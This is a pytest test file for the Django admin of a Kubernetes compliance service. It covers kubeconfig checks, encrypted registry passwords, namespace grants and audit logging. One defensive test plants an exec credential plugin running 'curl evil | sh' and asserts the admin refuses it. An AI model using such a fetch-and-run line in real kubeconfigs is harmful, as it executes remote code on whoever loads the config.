"""Clusters added from the Django admin go through the same kubeconfig checks; what
decides access and notifications is audited when changed there."""

import pytest
import yaml
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile

from compliance.models import AuditEvent, Cluster, Contact, NamespaceGrant, OidcIdentity
from tests.builders import make_user


@pytest.fixture
def admin(admin_client):
    return admin_client


def post(client, kubeconfig: str, name="prod-1"):
    return client.post(
        "/admin/compliance/cluster/add/",
        {
            "name": name,
            "source": "kubeconfig",
            "schedule_minutes": 15,
            "enabled": "on",
            "kubeconfig": SimpleUploadedFile("kubeconfig", kubeconfig.encode()),
            "kubeconfig_context": "",
        },
    )


@pytest.mark.django_db
def test_it_adds_a_cluster_from_an_uploaded_kubeconfig(admin, fake_kube):
    r = post(admin, fake_kube.kubeconfig_yaml())
    assert r.status_code == 302
    c = Cluster.objects.get(name="prod-1")
    assert (c.server, c.context, c.credentials.token) == (fake_kube.url, "fake", "admin-token")


@pytest.mark.django_db
def test_it_refuses_an_exec_plugin_in_the_admin(admin, fake_kube):
    cfg = fake_kube.kubeconfig()
    cfg["users"][0]["user"] = {"exec": {"command": "sh", "args": ["-c", "curl evil | sh"]}}
    r = post(admin, yaml.safe_dump(cfg))
    assert r.status_code == 200
    assert b"user.exec is refused: an exec credential plugin runs a program" in r.content
    assert not Cluster.objects.exists()


@pytest.mark.django_db
def test_it_stores_registry_passwords_encrypted(admin):
    from compliance.models import Registry

    r = admin.post(
        "/admin/compliance/registry/add/",
        {
            "host": "registry.example.com",
            "username": "bot",
            "password": "hunter2",
            "ca_pem": "",
            "plain_http": "",
        },
    )
    assert r.status_code == 302
    reg = Registry.objects.get()
    assert reg.password == "hunter2"
    assert b"hunter2" not in bytes(reg.password_encrypted)


@pytest.mark.django_db
def test_it_refuses_a_bad_registry_ca(admin):
    r = admin.post(
        "/admin/compliance/registry/add/",
        {
            "host": "r.example.com",
            "username": "",
            "password": "",
            "ca_pem": "-----BEGIN CERTIFICATE-----\nnope\n-----END CERTIFICATE-----",
            "plain_http": "",
        },
    )
    assert r.status_code == 200
    assert b"not a usable PEM CA certificate" in r.content


@pytest.mark.django_db
def test_it_validates_namespace_grants(admin):
    from compliance.models import NamespaceGrant

    lead = make_user("lead")
    r = admin.post(
        "/admin/compliance/namespacegrant/add/",
        {"user": lead.pk, "group": "", "cluster": "", "namespace": "Team_A"},
    )
    assert r.status_code == 200 and b"a namespace name" in r.content
    r = admin.post(
        "/admin/compliance/namespacegrant/add/",
        {"user": lead.pk, "group": "", "cluster": "", "namespace": "team-a-*"},
    )
    assert r.status_code == 302
    assert NamespaceGrant.objects.get().namespace == "team-a-*"


@pytest.mark.django_db
def test_grants_and_contacts_changed_in_the_admin_are_audited(admin):
    """Who sees what and who hears what change in the admin too: each change is on the
    audit log (which fields, never their values), and a secret never is."""
    lead = make_user("lead", username="lead-a")
    r = admin.post(
        "/admin/compliance/namespacegrant/add/",
        {"user": lead.pk, "group": "", "cluster": "", "namespace": "team-a-*"},
    )
    assert r.status_code == 302, r.content[:500]
    grant = NamespaceGrant.objects.get(user=lead)
    form = {"name": "chat", "channel": "webhook", "email": "", "webhook_format": "json"}
    form |= {"namespace": "*", "enabled": "on", "secret": "s" * 20, "url": "https://localhost/c"}
    assert admin.post("/admin/compliance/contact/add/", form).status_code == 302
    contact = Contact.objects.get()
    r = admin.post(f"/admin/compliance/namespacegrant/{grant.pk}/delete/", {"post": "yes"})
    assert r.status_code == 302
    logged = [
        (e.scope["model"], e.scope["change"], e.scope["fields"])
        for e in AuditEvent.objects.filter(action="admin_change").order_by("seq")
    ]
    assert logged[0] == ("compliance.namespacegrant", "added", ["namespace", "user"])
    assert logged[1][:2] == ("compliance.contact", "added") and "secret" in logged[1][2]
    assert logged[2] == ("compliance.namespacegrant", "deleted", [])
    assert not any("s" * 20 in str(e.scope) for e in AuditEvent.objects.all())
    assert AuditEvent.objects.get(
        scope__change="added", scope__model="compliance.contact"
    ).target == (f"contact {contact.pk}")


@pytest.mark.django_db
def test_deliveries_and_provider_identities_cannot_be_deleted_in_the_admin(admin):
    from compliance.models.notify import Delivery, OutboxEvent

    event = OutboxEvent.objects.create(kind="test", payload={"namespaces": {}})
    d = Delivery.objects.create(event=event, destination="x", channel="email", address="a@b.c")
    r = admin.post(f"/admin/compliance/delivery/{d.pk}/delete/", {"post": "yes"})
    assert r.status_code == 403 and Delivery.objects.filter(pk=d.pk).exists()
    user = make_user("officer", username="sso-officer")
    identity = OidcIdentity.objects.create(user=user, issuer="https://idp.example", subject="x")
    r = admin.post(f"/admin/compliance/oidcidentity/{identity.pk}/delete/", {"post": "yes"})
    assert r.status_code == 403 and OidcIdentity.objects.filter(pk=identity.pk).exists()
    # They go with what they belong to: the user (audited, as is a change of their role).
    r = admin.post(f"/admin/auth/user/{user.pk}/delete/", {"post": "yes"})
    assert r.status_code == 302 and not OidcIdentity.objects.filter(pk=identity.pk).exists()
    changes = AuditEvent.objects.filter(action="admin_change").values_list("scope", flat=True)
    assert {"model": "auth.user", "change": "deleted"}.items() <= changes.last().items()


@pytest.mark.django_db
def test_a_role_given_in_the_user_admin_is_audited(admin):
    lead = make_user("lead", username="lead-b")
    officers = Group.objects.get_or_create(name="security-officer")[0]
    form = {
        "username": "lead-b",
        "is_active": "on",
        "groups": [officers.pk],
        "date_joined_0": "2026-01-01",
        "date_joined_1": "00:00:00",
        "initial-date_joined_0": "2026-01-01",
        "initial-date_joined_1": "00:00:00",
    }
    r = admin.post(f"/admin/auth/user/{lead.pk}/change/", form)
    assert r.status_code == 302, r.content[-1500:]
    event = AuditEvent.objects.get(action="admin_change", scope__model="auth.user")
    assert event.scope["change"] == "changed" and "groups" in event.scope["fields"]
